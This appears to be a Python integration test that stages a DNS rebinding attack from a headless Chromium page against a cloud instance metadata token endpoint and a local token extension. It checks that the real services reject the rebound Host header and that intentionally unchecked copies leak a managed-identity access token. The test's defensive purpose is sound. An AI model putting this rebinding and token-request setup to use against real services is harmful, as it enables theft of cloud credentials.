"""DNS rebinding with a real browser. A page of the attacker's is loaded by a name; then that name comes to lead to a token
endpoint, and the page asks it as its own server, with whatever header it likes. The `Host` that the browser sends is still
the attacker's: where that is checked the page gets nothing, and where it isn't it gets a token."""

import json
import os
import subprocess
import sys
import threading
from pathlib import Path
from urllib.parse import urlsplit

import rebinding
import unpacked
import world
from checks import Checks

ROOT, HOME = Path(sys.argv[1]), Path(os.environ["HOME"])
RESOLVER, ATTACKER = "127.0.0.53", "127.0.0.66"
PATIENCE = 150
EXTENSION = urlsplit(world.vm()["extension"]).port
WEAK_EXTENSION, WEAK_IMDS = EXTENSION + 1, 8080
IMDS_PATH = f"/metadata/identity/oauth2/token?api-version=2018-02-01&resource={world.ARM}"
EXTENSION_PATH = f"/oauth2/token?resource={world.ARM}"

TARGETS = {
    "imds": (world.IMDS, 80, IMDS_PATH),
    "extension": ("127.0.0.1", EXTENSION, EXTENSION_PATH),
    "weak-imds": (world.IMDS, WEAK_IMDS, IMDS_PATH),
    "weak-extension": ("127.0.0.1", WEAK_EXTENSION, EXTENSION_PATH),
}
"""Where each name leads at last, and what its page asks for."""


class Attack:
    """What the attacker has seen."""

    def __init__(self) -> None:
        self.loaded: set[str] = set()
        self.reports: dict[str, dict] = {}
        self.failures: list[dict] = []
        self.all_reported = threading.Event()

    def leads(self, name: str) -> str:
        """To the attacker, until every page is loaded."""
        target = TARGETS.get(name.removesuffix(".example"))
        return target[0] if target and self.loaded == TARGETS.keys() else ATTACKER

    def page(self, name: str, path: str) -> str:
        """The page of a name, and nothing else there."""
        if path != "/":
            return "the attacker's"
        self.loaded.add(name)
        return rebinding.page(name, TARGETS[name][2])

    def index(self, method: str, path: str, sent: bytes) -> str:
        """A page with all of them in it, and where they report."""
        if method == "POST":
            said = json.loads(sent)
            print(said.get("name"), said.get("status"), said.get("failed"), file=sys.stderr)
            if "failed" in said:
                self.failures.append(said)
            else:
                self.reports[said["name"]] = said
            if self.reports.keys() == TARGETS.keys():
                self.all_reported.set()
            return ""
        frames = [f'<iframe src="http://{name}.example:{port}/"></iframe>' for name, (_, port, _) in TARGETS.items()]
        return "".join(frames)


def browse(url: str) -> subprocess.Popen:
    """Chromium with a profile of its own, at a page."""
    command = [
        str(ROOT / "usr/lib/chromium/chromium-headless-shell"), "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-dev-shm-usage", "--disable-background-networking", f"--user-data-dir={HOME / 'profile'}",
        "--remote-debugging-port=0", url,
    ]  # fmt: skip
    # With a port for its debugger it stays until it is ended.
    return subprocess.Popen(command, env=unpacked.environment(ROOT), stdout=sys.stderr)


resolver_file = HOME / "resolv.conf"
resolver_file.write_text(f"nameserver {RESOLVER}\n")
subprocess.run(["mount", "--bind", str(resolver_file), "/etc/resolv.conf"], check=True)
attack = Attack()
rebinding.Resolver(RESOLVER, attack.leads)
rebinding.pages(ATTACKER, 8088, attack.index)
for name, (_, port, _) in TARGETS.items():
    rebinding.pages(ATTACKER, port, lambda _method, path, _sent, name=name: attack.page(name, path))
rebinding.without_host_check(world.IMDS, WEAK_IMDS, world.IMDS, (world.IMDS, 80))
rebinding.without_host_check("127.0.0.1", WEAK_EXTENSION, f"localhost:{EXTENSION}", ("127.0.0.1", EXTENSION))

browser = browse("http://attack.example:8088/")
try:
    attack.all_reported.wait(PATIENCE)
finally:
    browser.kill()
    browser.wait()


def reported(name: str) -> tuple[int, dict]:
    """What a page saw once its name led elsewhere."""
    said = attack.reports.get(name)
    assert said, f"nothing within {PATIENCE} s; pages loaded: {attack.loaded}; {attack.failures[-3:]}"
    return said["status"], json.loads(said["body"])


checks = Checks()
with checks.check("the metadata service refuses a page whose name was rebound"):
    status, body = reported("imds")
    assert (status, body["error_description"]) == (400, "The Host header is not allowed"), (status, body)
with checks.check("the extension refuses it too"):
    status, body = reported("extension")
    assert (status, body["error"]) == (401, "unknown_source"), (status, body)
for name in ("weak-imds", "weak-extension"):
    with checks.check(f"{name}: where the name isn't checked, the page has a token"):
        status, body = reported(name)
        assert status == 200, (status, body)
        world.assert_token(body["access_token"], world.system_assigned())
checks.done()
